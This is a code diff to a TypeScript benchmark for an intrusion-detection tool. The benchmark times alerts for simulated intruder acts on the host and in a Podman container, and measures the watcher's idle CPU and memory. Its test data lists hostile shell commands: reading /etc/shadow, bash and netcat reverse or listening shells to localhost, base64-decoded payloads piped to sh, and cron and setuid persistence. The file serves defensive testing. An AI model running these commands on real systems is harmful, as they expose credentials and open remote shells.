@@ -6,6 +6,7 @@ import { createInterface } from 'node:readline';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { fileURLToPath } from 'node:url';
 import { sensor } from '../src/collect/sensors/audit/index.ts';
+import { OwnPodman } from '../tests/support/own-podman.ts';
 import { median, type Bench, type BenchResult } from './bench.ts';
 import { floods } from './data/floods.ts';
 
@@ -15,9 +16,20 @@ const main = join(root, 'src/cli/main.ts');
 const ownKey = 'vakthund-bench';
 const patienceMs = 20_000;
 const startMs = 120_000;
+/** After its start a watch judges what stood there, and V8 gives memory back. */
+const settleMs = 20_000;
+const idleMs = 20_000;
 
-/** Acts of an intruder that do no harm, and what must be told of each. */
-const acts: readonly (readonly [name: string, command: string, detector: RegExp])[] = [
+/** What an intruder does, without harm; what must be told of it; and of which container. */
+interface Act {
+  readonly name: string;
+  readonly told: RegExp;
+  readonly container?: string;
+  readonly do: () => void;
+}
+
+/** On the host, as somebody who has logged in. */
+const commands: readonly (readonly [name: string, command: string, told: RegExp])[] = [
   ['password hashes read', 'cat /etc/shadow > /dev/null', /shadow|hashes/i],
   ['reverse shell', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'", /shell/i],
   ['set-user-id bit', 'chmod u+s "$BENCH/program"', /set-?u(?:ser-)?id/i],
@@ -30,6 +42,17 @@ const acts: readonly (readonly [name: string, command: string, detector: RegExp]
   ['decoded and run', "sh -c 'echo dHJ1ZQo= | base64 -d | sh'", /decode/i],
 ];
 
+/** In a container. */
+const lines: readonly (readonly [name: string, line: string, told: RegExp])[] = [
+  ['password hashes read', 'cat /etc/shadow > /dev/null', /hashes/i],
+  ['listening shell', 'nc -l -p 4444 -e /bin/sh & sleep 0.3; kill $!', /reverse shell|netcat/i],
+  ['shell joined by a pipe', 'mkfifo /tmp/f; (sh -i < /tmp/f | nc 127.0.0.1 9 > /tmp/f) & sleep 0.3', /pipe/i],
+  ['cron file', 'echo "* * * * * root /x" > /etc/cron.d/x', /cron/i],
+  ['program dropped and run', 'cp /bin/busybox /tmp/ls; /tmp/ls /', /anybody may write/i],
+  ['package manager', 'cp /bin/busybox /bin/apk; /bin/apk add curl', /package manager/i],
+  ['kernel helper', 'echo /x > /tmp/release_agent', /kernel helper/i],
+];
+
 /** How long after an act its alert is told, and what becomes of floods of events: seen, or counted as lost. */
 export const bench: Bench = {
   id: 'watch-live',
@@ -39,14 +62,17 @@ export const bench: Bench = {
       process.stderr.write(`watch-live is skipped: ${why}\n`);
       return [];
     }
-    const folder = mkdtempSync(join(tmpdir(), 'vakthund-live-'));
+    const folder = mkdtempSync(join(tmpdir(), 'vkl-'));
     const wasOn = spawnSync('auditctl', ['-s'], { encoding: 'utf8' }).stdout.includes('enabled 1');
+    const podman = await OwnPodman.start(folder);
+    if (podman === undefined) process.stderr.write('no containers: podman cannot be run here\n');
     try {
       loadRules(folder);
-      return [...(await latencies(folder)), ...(await floodLosses(folder))];
+      return [...(await latencies(folder, podman)), ...(await floodLosses(folder))];
     } finally {
       spawnSync('auditctl', ['-D', '-k', ownKey]);
       if (!wasOn) spawnSync('auditctl', ['-e', '0']);
+      await podman?.stop();
       rmSync(folder, { recursive: true, force: true });
     }
   },
@@ -76,18 +102,8 @@ interface Watching {
   until(isThere: () => boolean, forMs?: number): Promise<boolean>;
 }
 
-async function startWatch(folder: string, name: string): Promise<Watching> {
-  const args = [
-    'watch',
-    '--sensor',
-    'audit',
-    '--case',
-    join(folder, name),
-    '--json',
-    '--quiet',
-    '--repeat-window',
-    '1',
-  ];
+async function startWatch(folder: string, name: string, sensors: readonly string[]): Promise<Watching> {
+  const args = ['watch', ...sensors, '--case', join(folder, name), '--json', '--quiet', '--repeat-window', '1'];
   const child = spawn(process.execPath, [main, ...args], { stdio: ['ignore', 'pipe', 'ignore'] });
   const told: Watching['told'] = [];
   createInterface({ input: child.stdout }).on('line', (line) => {
@@ -108,51 +124,96 @@ async function stopWatch({ child }: Watching): Promise<void> {
   await new Promise((done) => child.once('exit', done));
 }
 
-async function latencies(folder: string): Promise<BenchResult[]> {
+async function latencies(folder: string, podman: OwnPodman | undefined): Promise<BenchResult[]> {
   copyFileSync('/bin/true', join(folder, 'program'));
-  const watching = await startWatch(folder, 'acts');
+  const engine = podman === undefined ? [] : ['--engine', podman.socket];
+  const watching = await startWatch(folder, 'acts', ['--sensor', 'auto', ...engine]);
+  podman?.run('vkbench');
+  const idle = await idleCost(watching);
+  const acts = [
+    ...commands.map((command) => onHost(folder, ...command)),
+    ...(podman === undefined ? [] : inside(podman)),
+  ];
   const seconds: number[] = [];
-  let missed = 0;
-  for (const [name, command, detector] of acts) {
-    await sleep(2500);
-    const from = watching.told.length;
-    const startedAt = Date.now();
-    const script = 'echo 1000 > /proc/self/loginuid; exec sh -c "$0"';
-    spawnSync('sh', ['-c', script, command], { env: { ...process.env, BENCH: folder }, stdio: 'ignore' });
-    const find = () =>
-      watching.told.slice(from).find(({ notice }) => {
-        const text = `${String(notice['detector'])} ${String(notice['title'])}`;
-        return notice['type'] === 'alert' && detector.test(text);
-      });
-    await watching.until(() => find() !== undefined);
-    const found = find();
-    if (found === undefined) missed++;
-    else seconds.push((found.at - startedAt) / 1000);
-    process.stderr.write(`${name}: ${found === undefined ? 'not told' : `${(found.at - startedAt) / 1000} s`}\n`);
+  for (const act of acts) {
+    const took = await timeTold(act, watching);
+    if (took !== undefined) seconds.push(took);
+    process.stderr.write(`${act.container ?? 'host'}, ${act.name}: ${took === undefined ? 'not told' : `${took} s`}\n`);
   }
   await stopWatch(watching);
   return [
-    { id: 'watch-live/act to alert', value: median(seconds), unit: 's', cpu_s: 0, runs: seconds.length },
-    { id: 'watch-live/slowest alert', value: Math.max(...seconds), unit: 's', cpu_s: 0, runs: seconds.length },
-    { id: 'watch-live/acts not told', value: missed, unit: 'acts', cpu_s: 0, runs: acts.length },
+    result('act to alert', median(seconds), 's', seconds.length),
+    result('slowest alert', Math.max(...seconds), 's', seconds.length),
+    result('acts not told', acts.length - seconds.length, `of ${acts.length} acts`, acts.length),
+    ...idle,
   ];
+}
+
+function onHost(folder: string, name: string, command: string, told: RegExp): Act {
+  const script = 'echo 1000 > /proc/self/loginuid; exec sh -c "$0"';
+  const options = { env: { ...process.env, BENCH: folder }, stdio: 'ignore' } as const;
+  return { name, told, do: () => void spawnSync('sh', ['-c', script, command], options) };
+}
+
+function inside(podman: OwnPodman): Act[] {
+  const container = 'vkbench';
+  return lines.map(([name, line, told]) => ({ name, told, container, do: () => podman.exec(container, line) }));
+}
+
+/** Seconds from the beginning of an act to its alert, which must name the container and its image; undefined when none came. */
+async function timeTold(act: Act, watching: Watching): Promise<number | undefined> {
+  await sleep(2500);
+  const from = watching.told.length;
+  const startedAt = Date.now();
+  act.do();
+  const find = () =>
+    watching.told.slice(from).find(({ notice }) => {
+      const isOfAct = act.told.test(`${String(notice['detector'])} ${String(notice['title'])}`);
+      const isThere = act.container === undefined || (notice['container'] === act.container && 'image' in notice);
+      return notice['type'] === 'alert' && isOfAct && isThere;
+    });
+  await watching.until(() => find() !== undefined);
+  const found = find();
+  return found === undefined ? undefined : (found.at - startedAt) / 1000;
+}
+
+/** What a watch takes while nearly nothing happens: share of one processor, and resident memory. */
+async function idleCost({ child }: Watching): Promise<BenchResult[]> {
+  await sleep(settleMs);
+  const before = cpuOf(child.pid ?? 0);
+  const startedAt = performance.now();
+  await sleep(idleMs);
+  const share = (cpuOf(child.pid ?? 0) - before) / ((performance.now() - startedAt) / 1000);
+  const status = readFileSync(`/proc/${child.pid}/status`, 'latin1');
+  const kilobytes = Number(/^VmRSS:\s+(?<kilobytes>\d+)/m.exec(status)?.groups?.['kilobytes']);
+  return [result('idle', share * 100, '% of a core', 1), result('resident', kilobytes / 1024, 'MiB', 1)];
+}
+
+/** CPU seconds of a process, all threads. */
+function cpuOf(pid: number): number {
+  const fields = readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ').at(-1)?.split(' ') ?? [];
+  return (Number(fields[11]) + Number(fields[12])) / 100;
+}
+
+function result(what: string, value: number, unit: string, runs: number): BenchResult {
+  return { id: `watch-live/${what}`, value, unit, cpu_s: 0, runs };
 }
 
 async function floodLosses(folder: string): Promise<BenchResult[]> {
   const results: BenchResult[] = [];
   for (const { id, kind, condition, run } of floods(folder)) {
-    const watching = await startWatch(folder, id);
+    const watching = await startWatch(folder, id, ['--sensor', 'audit']);
     const { made, seconds } = run();
     const seen = await seenOf(folder, id, kind, condition, made);
     const lost = watching.told
       .filter(({ notice }) => notice['type'] === 'sensor' && notice['state'] === 'lost')
       .reduce((sum, { notice }) => sum + Number(notice['count'] ?? 0), 0);
     await stopWatch(watching);
-    const result = (what: string, value: number, unit: string): BenchResult => {
-      return { id: `watch-live/${id} ${what}`, value, unit, cpu_s: 0, runs: 1 };
-    };
-    results.push(result('made', made / seconds, 'events/s'), result('unseen', made - seen, `of ${made} events`));
-    results.push(result('told as lost', lost, 'records'));
+    results.push(
+      result(`${id} made`, made / seconds, 'events/s', 1),
+      result(`${id} unseen`, made - seen, `of ${made} events`, 1),
+      result(`${id} told as lost`, lost, 'records', 1),
+    );
   }
   return results;
 }
